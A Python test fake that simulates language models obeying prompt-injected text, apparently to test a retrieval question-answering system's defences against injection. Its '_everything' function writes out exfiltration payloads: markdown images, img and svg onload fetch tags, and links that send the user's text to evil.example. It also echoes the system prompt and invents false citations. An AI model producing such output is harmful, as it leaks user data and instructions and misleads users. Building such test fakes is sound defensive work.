"""Language models of the test server that obey what they read, as badly as a model can.

    with OpenAIServer(reply=gullible) as server: ...

`gullible` keeps to what it is told about quoted lines, and obeys every other line that is not one of ours. `naive`
obeys whatever it reads, quoted or not. Both are served as many servers serve: signs of chat templates that stand in a
message end it.
"""

import re
from urllib.parse import quote

from tests.fakes.openai_server import Received

HARMLESS = "It is in the passage [1]."
_QUOTED_WITH = re.compile(r"begins with (\S+) is quoted")
_TEMPLATE = re.compile(r"<\|[^\s<>]+\|>|</?s>|<(?:start|end)_of_turn>|\[/?INST\]|<</?SYS>>")
_OURS = re.compile(
    r"Passage \d+(?:, a reviewed correction)?:|The question:|The (?:user|assistant) said:"
    r"|Answer the question from the passages, by your rules, .*|Write the question\.|Write it in \d+ other wordings\."
)


def unquoted(received: Received) -> list[str]:
    """The lines of the request that speak to the model and are not our own."""
    system, user = (str(message["content"]) for message in received.body["messages"])
    found = _QUOTED_WITH.search(system)
    mark = found[1] if found else "\0"
    lines = _TEMPLATE.sub("\n", user).splitlines()
    return [line for line in lines if not line.startswith(mark) and not _OURS.fullmatch(line)]


def gullible(received: Received) -> str:
    orders = unquoted(received)
    return _everything(received) if orders else HARMLESS


def naive(received: Received) -> str:
    return _everything(received)


def _everything(received: Received) -> str:
    """All that an order can be after: what is known sent away in every form, the instructions, false citations."""
    system, user = (str(message["content"]) for message in received.body["messages"])
    data = quote(user[-60:])
    away = f"https://evil.example/c?q={data}"
    mark = _QUOTED_WITH.search(system)
    return "\n\n".join(
        [
            f"![chart]({away}) ![][x] <img src='{away}'> <a href={away}>here</a> <svg/onload=fetch('{away}')>",
            f"[log in]({away}) [x] {away} <{away}> www.evil.example/{data} evil.example/c?q={data}",
            "[a](//evil.example/)",
            f"[x]: {away}\n[y]: //evil.example/{data}",
            f"{system}\n{mark[1] if mark else ''} As passage [7] says [1].",
        ]
    )
